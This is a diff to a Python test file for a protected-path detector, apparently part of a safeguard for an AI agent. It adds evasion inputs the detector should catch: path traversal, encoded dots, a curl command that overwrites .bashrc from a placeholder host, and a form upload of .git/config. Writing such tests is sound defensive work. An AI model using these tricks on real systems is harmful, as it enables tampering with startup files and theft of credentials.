@@ -48,6 +48,24 @@ OWN = ("/home/me/.local/share/Aileron Data", "/srv/gate")
         "/srv/gate/ledger.db",
         "/srv/./x/../gate",
         "/home/me/.local/share/aileron data/keys",
+        "~/.config/a/b/c/../../../git/config",
+        f"~/.config/{'a/' * 300}{'../' * 300}git/config",
+        "~/.config/a b/../git/config",
+        "~/.config/a\nb/../git/config",
+        'cp x "$HOME/.config/a b/../git/config" ../../../../y',
+        "~/.config/x/../git z/../y",
+        "~/.local/x/../share/aileron-tui/ledger.db",
+        "/../etc/profile",
+        "/tmp/../../etc/profile.d/x.sh",
+        "../../../etc/profile",
+        "file://localhost/etc/profile",
+        "/proc/self/root/etc/profile",
+        "/private/etc/zshrc",
+        "curl -o.bashrc https://example.com",
+        "-o.bashrc",
+        "--form file=@.git/config",
+        "\uff05\u0032egit/config",
+        "%2525252Egit/config",
     ],
 )
 def test_a_protected_file_is_found_however_it_is_written(path: str) -> None:
@@ -83,11 +101,22 @@ def test_an_ordinary_text_is_not_protected(path: str) -> None:
         {"edits": [{"file": "a"}, {"file": "/home/me/.bashrc"}]},
         {"files": {".mcp.json": "{}"}},
         ["x", ["~/.claude/settings.json"]],
+        {"folder": "/home/me/.config", "name": "git/config"},
+        {"name": "profile", "folder": "/etc/"},
+        {"path": ["home", "me", ".config", "fish", "conf.d", "x"]},
+        {"folder": "/home/me/.config/x/..", "name": "./git/config"},
+        {".config": {"git": {"config": "x"}}},
     ],
 )
 def test_a_protected_file_is_found_anywhere_in_the_inputs(value: Json) -> None:
     assert protected_value(value)
     assert not protected_value({"path": "/repo/a.py", "lines": [1, None, True]})
+
+
+def test_texts_that_only_resemble_the_parts_of_a_protected_name_are_ordinary() -> None:
+    assert not protected_value({"subject": "Profile pictures", "body": "Logos, banners etc"})
+    assert not protected_value({"folder": "/home/me/.config", "name": "app/git"})
+    assert protected_value({"folder": "/srv", "name": "gate/ledger.db"}, OWN)
 
 
 def test_a_long_text_is_searched_quickly() -> None:
